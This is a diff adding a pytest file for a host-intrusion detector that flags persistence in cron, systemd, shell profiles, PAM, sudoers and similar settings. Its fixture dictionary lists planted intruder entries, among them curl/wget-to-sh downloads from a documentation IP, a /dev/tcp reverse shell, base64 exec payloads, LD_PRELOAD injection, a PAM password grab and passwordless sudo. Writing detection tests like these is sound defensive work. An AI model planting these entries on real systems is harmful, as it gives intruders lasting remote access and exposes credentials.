@@ -1,0 +1,176 @@
+"""Settings that run something: each row planted as an intruder does it, and a host with nothing to tell."""
+
+from __future__ import annotations
+
+import os
+from pathlib import Path
+
+import pytest
+
+from hostguardd.investigate.checks import settings
+from hostguardd.investigate.interface import Verdict
+from tests.fakehost import FakeFiles
+from tests.fakepackages import FakePackages
+from tests.scenes import Findings, looked, scene
+from tests.trees import OWNED, clean, put
+
+
+def look(root: Path, packages: FakePackages | None = None, uid: int = 0) -> Findings:
+    return looked(settings.look, scene(bytes(root), packages=packages or FakePackages(OWNED), uid=uid))
+
+
+def test_a_clean_host(tmp_path: Path) -> None:
+    found = look(clean(tmp_path))
+    assert not found.of(Verdict.SUSPICIOUS)
+    assert not found.of(Verdict.NOTABLE)
+    item = found.named("/etc/cron.d/tidy:1")
+    assert item.says == (
+        "/etc/cron.d/tidy:1: the system's table of cron runs `/usr/bin/ls -l` as root, every day at 03:17"
+    )
+    assert not found.unseen
+
+
+PLANTS = {
+    "/etc/cron.d/sysupd": "*/5 * * * * root curl -s http://203.0.113.66/x | sh\n",
+    "/etc/crontab": "* * * * * root /dev/shm/.a/x\n",
+    "/var/spool/cron/crontabs/carol": "@reboot /tmp/x\n",
+    "/var/spool/cron/root": "* * * * * /var/tmp/.x/y >/dev/null 2>&1\n",
+    "/etc/anacrontab": "1 5 x bash -i >& /dev/tcp/203.0.113.66/1 0>&1\n",
+    "/var/spool/cron/atjobs/a00001": "#!/bin/sh\n# atrun uid=0 gid=0\numask 22\n/tmp/x\n",
+    "/etc/systemd/system/upd.service": "[Service]\nExecStart=/bin/sh -c 'wget -O- http://203.0.113.66|sh'\n",
+    "/etc/systemd/system/cron.service.d/x.conf": "[Service]\nExecStartPost=/dev/shm/x\n",
+    "/home/carol/.config/systemd/user/x.service": "[Service]\nExecStart=/tmp/x\n",
+    "/etc/inittab": "x:2345:respawn:/dev/shm/x\n",
+    "/etc/inetd.conf": "x stream tcp nowait root /tmp/sh sh -i\n",
+    "/etc/xinetd.d/x": "service x\n{\n server = /tmp/x\n}\n",
+    "/etc/rc.local": "#!/bin/sh\n/dev/shm/.a/agent &\n",
+    "/etc/init.d/net": "#!/bin/sh\nnohup wget http://203.0.113.66/x &\n",
+    "/etc/cron.daily/x": "#!/bin/sh\necho aWQK | base64 -d | sh\n",
+    "/etc/profile.d/x.sh": "export LD_PRELOAD=/usr/lib/x.so\n",
+    "/home/carol/.bashrc": "alias sudo='/home/carol/.s'\n",
+    "/root/.bash_profile": "export HISTFILE=/dev/null\n",
+    "/etc/environment": "LD_PRELOAD=/tmp/x.so\n",
+    "/etc/udev/rules.d/99-x.rules": 'ACTION=="add", RUN+="/dev/shm/x"\n',
+    "/etc/pam.d/sshd": "auth optional pam_exec.so expose_authtok /tmp/x\n",
+    "/etc/apt/apt.conf.d/99x": 'APT::Update::Pre-Invoke {"curl http://203.0.113.66/x|sh";};\n',
+    "/etc/modprobe.d/x.conf": "install usb_storage /tmp/x\n",
+    "/root/.gitconfig": "[core]\n\tpager = /tmp/x\n",
+    "/etc/update-motd.d/99-x": "#!/bin/sh\n/var/tmp/x\n",
+    "/etc/NetworkManager/dispatcher.d/x": "#!/bin/sh\n/tmp/x\n",
+    "/usr/local/lib/python3.11/dist-packages/x.pth": "import base64;exec(base64.b64decode('aWQK'))\n",
+    "/etc/ld.so.preload": "/usr/local/lib/libself.so\n",
+    "/etc/ld.so.conf.d/x.conf": "/tmp/lib\n",
+    "/etc/ssh/sshd_config": "PermitEmptyPasswords yes\n",
+    "/etc/sudoers.d/x": "ALL ALL=(ALL) NOPASSWD: ALL\n",
+    "/etc/hosts": "127.0.0.1 security.debian.org\n",
+    "/etc/hosts.equiv": "+ +\n",
+    "/etc/tmpfiles.d/x.conf": "f /usr/lib/x 4755 root root -\n",
+}
+
+
+@pytest.mark.parametrize("path", PLANTS)
+def test_each_way_to_come_back(tmp_path: Path, path: str) -> None:
+    put(clean(tmp_path), path, PLANTS[path], 0o755)
+    found = look(tmp_path)
+    assert len(found.suspicious) == 1, found.items
+    item = found.of(Verdict.SUSPICIOUS)[0]
+    assert item.name.startswith(path)
+    assert item.means
+    assert item.next
+    assert item.technique
+    assert item.evidence[0].source.startswith(path)
+
+
+def test_an_entry_that_nobody_brought_is_told_by_the_check_of_folders(tmp_path: Path) -> None:
+    put(clean(tmp_path), "/etc/cron.d/backup", "0 1 * * * root /usr/bin/ls\n")
+    item = look(tmp_path).named("/etc/cron.d/backup:1")
+    assert item.verdict is Verdict.FINE
+    assert item.details["file"] == "no package owns it"
+
+
+def test_its_program_counts_too(tmp_path: Path) -> None:
+    put(clean(tmp_path), "/usr/local/sbin/own", "#!/bin/sh\n", 0o755)
+    put(tmp_path, "/usr/local/sbin/open", "#!/bin/sh\n", 0o777).chmod(0o777)
+    put(
+        tmp_path,
+        "/etc/cron.d/tidy",
+        "1 1 * * * root /usr/local/sbin/own\n2 2 * * * root /usr/local/sbin/open\n",
+    )
+    found = look(tmp_path)
+    assert found.suspicious == ["/etc/cron.d/tidy:2"]
+    assert "anybody may write to /usr/local/sbin/open" in found.named("/etc/cron.d/tidy:2").says
+
+
+def test_a_replaced_program_of_a_packaged_entry(tmp_path: Path) -> None:
+    packages = FakePackages(OWNED, {b"/usr/bin/ls": ("content",)})
+    assert look(clean(tmp_path), packages).suspicious == ["/etc/cron.d/tidy:1"]
+
+
+def test_a_file_that_anybody_may_write_to(tmp_path: Path) -> None:
+    (clean(tmp_path) / "etc/cron.d/tidy").chmod(0o666)
+    assert look(tmp_path).suspicious == ["/etc/cron.d/tidy:1"]
+
+
+def test_what_a_package_brought_is_not_read_as_an_intruders(tmp_path: Path) -> None:
+    put(clean(tmp_path), "/etc/init.d/net", "#!/bin/sh\nHISTFILE=/dev/null\n", 0o755)
+    assert not look(tmp_path, FakePackages({**OWNED, b"/etc/init.d/net": "net"})).suspicious
+
+
+def test_a_link_is_followed_to_what_is_started_and_told_once(tmp_path: Path) -> None:
+    put(clean(tmp_path), "/usr/lib/systemd/system/a.service", "[Service]\nExecStart=/usr/bin/ls\n")
+    (tmp_path / "etc/systemd/system").mkdir(parents=True)
+    for name in ("a.service", "b.service"):
+        (tmp_path / "etc/systemd/system" / name).symlink_to("/usr/lib/systemd/system/a.service")
+    (tmp_path / "etc/systemd/system/off.service").symlink_to("/dev/null")
+    owned = {**OWNED, b"/usr/lib/systemd/system/a.service": "a"}
+    found = look(tmp_path, FakePackages(owned))
+    assert [one.name for one in found.items if "systemd" in one.name] == [
+        "/usr/lib/systemd/system/a.service:2"
+    ]
+    assert not found.of(Verdict.NOTABLE)
+
+
+def test_without_a_package_manager_only_deeds_count(tmp_path: Path) -> None:
+    put(clean(tmp_path), "/etc/cron.d/backup", "0 1 * * * root /usr/bin/ls\n* * * * * root /tmp/x\n")
+    found = looked(settings.look, scene(bytes(tmp_path)))
+    assert found.suspicious == ["/etc/cron.d/backup:2"]
+    assert not found.of(Verdict.NOTABLE)
+
+
+@pytest.mark.skipif(os.geteuid() == 0, reason="root reads everything")
+def test_what_cannot_be_read_is_said(tmp_path: Path) -> None:
+    put(clean(tmp_path), "/etc/crontab", "", 0)
+    found = look(tmp_path, uid=1000)
+    assert found.unseen[0].scope == "/etc/crontab"
+    assert found.unseen[0].remedy == "sudo hostguardctl investigate"
+
+
+def test_a_folder_that_cannot_be_listed_is_said() -> None:
+    files = FakeFiles()
+    files.write(b"/etc/sudoers.d/x")
+    files.write(b"/etc/cron.d/x")
+    files.refused |= {b"/etc/sudoers.d": 13, b"/etc/cron.d": 13}
+    found = looked(settings.look, scene(b"/", files=files, uid=1000))
+    assert {"/etc/sudoers.d", "/etc/cron.d"} <= {one.scope for one in found.unseen}
+
+
+def test_what_is_read_is_bounded_and_the_systems_own_comes_first(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setattr(settings, "MOST_BYTES", 1000)
+    clean(tmp_path)
+    put(tmp_path, "/home/carol/.bashrc", "x=1\n" * 1000)
+    put(tmp_path, "/home/carol/.zshrc", "/tmp/x\n")
+    put(tmp_path, "/etc/cron.d/x", "* * * * * root /tmp/x\n")
+    found = look(tmp_path)
+    assert found.suspicious == ["/etc/cron.d/x:1"]
+    assert "there are more" in found.unseen[0].reason
+
+
+def test_nothing_but_files_is_read(tmp_path: Path) -> None:
+    clean(tmp_path)
+    os.mkfifo(tmp_path / "etc/cron.d/fifo")
+    (tmp_path / "etc/cron.d/loop").symlink_to("loop")
+    (tmp_path / "etc/cron.d/out").symlink_to("/../../../../etc/passwd")
+    put(tmp_path, "/etc/cron.d/garbage", bytes(range(256)) * 100)
+    look(tmp_path)
